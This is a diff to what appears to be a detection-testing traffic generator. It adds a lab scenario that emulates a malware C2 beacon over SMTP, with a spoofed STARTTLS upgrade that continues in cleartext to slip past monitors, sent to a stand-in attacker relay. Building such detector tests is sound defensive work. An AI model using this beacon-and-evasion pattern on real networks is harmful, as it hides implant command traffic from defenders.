@@ -23,6 +23,7 @@ import sys
 import time
 
 SERVER = "10.99.0.2"
+C2_SERVER = "10.99.0.3"  # fake_servers.py: the attacker's own relay
 PASSWORDS = {"alice@corp.example": "alice-Secr3t", "bob@corp.example": "bob-Secr3t",
              "drop@partner.example": "drop-Secr3t"}
 MACHINE = "DESKTOP-AB12CD7"  # a default Windows host name, as stealers' EHLO shows
@@ -209,6 +210,38 @@ class Run:
             c.auth("LOGIN", c.auth_login)
             c.send_message(m)
 
+    def fake_starttls(self):
+        # Both ends are the attacker's: STARTTLS is accepted and the session carries on in
+        # cleartext, so a monitor that trusts the upgrade stops reading at the 220.
+        s = self.scenario("c2_smtp_fake_starttls", "c2", "smtp", 25, helo="ws-0999.corp.example",
+                          mail_from="<bot@c2.example>", rcpt_to=["<tasks@c2.example>"], subject="beacon 17",
+                          detectors=[9200019], anomalies=["smtp.starttls_cleartext_continues"])
+        body = ("From: bot@c2.example\r\nTo: tasks@c2.example\r\nSubject: beacon 17\r\n\r\n"
+                "host=ws-0999 uid=501 ok\r\n.\r\n")
+        with socket.create_connection((C2_SERVER, 25), 20, source_address=(s["src_ip"], 0)) as c:
+            f = c.makefile("rwb")
+
+            def say(line, replies=1):
+                if line is not None:
+                    f.write(line.encode() + b"\r\n")
+                    f.flush()
+                for _ in range(replies):
+                    r = f.readline()
+                    while r[3:4] == b"-":  # a multi-line reply
+                        r = f.readline()
+
+            say(None)  # greeting
+            say("EHLO " + s["expect"]["helo"])
+            say("STARTTLS")
+            say("EHLO " + s["expect"]["helo"])
+            say("MAIL FROM:" + s["expect"]["mail_from"])
+            say("RCPT TO:" + s["expect"]["rcpt_to"][0])
+            say("DATA")
+            f.write(body.encode())
+            f.flush()
+            f.readline()
+            say("QUIT")
+
     def pop3_polling(self):
         # The operator queues two commands as mail to the drop box; the implant polls by POP3,
         # retrieves and deletes them, then polls an empty box.
@@ -284,6 +317,7 @@ class Run:
         self.stealer_exfil()
         self.odd_port()
         self.encoded_header()
+        self.fake_starttls()
         wait_mail(self.state_dir, "bob@corp.example", 4)
         self.imap_read()
         self.pop3_read()
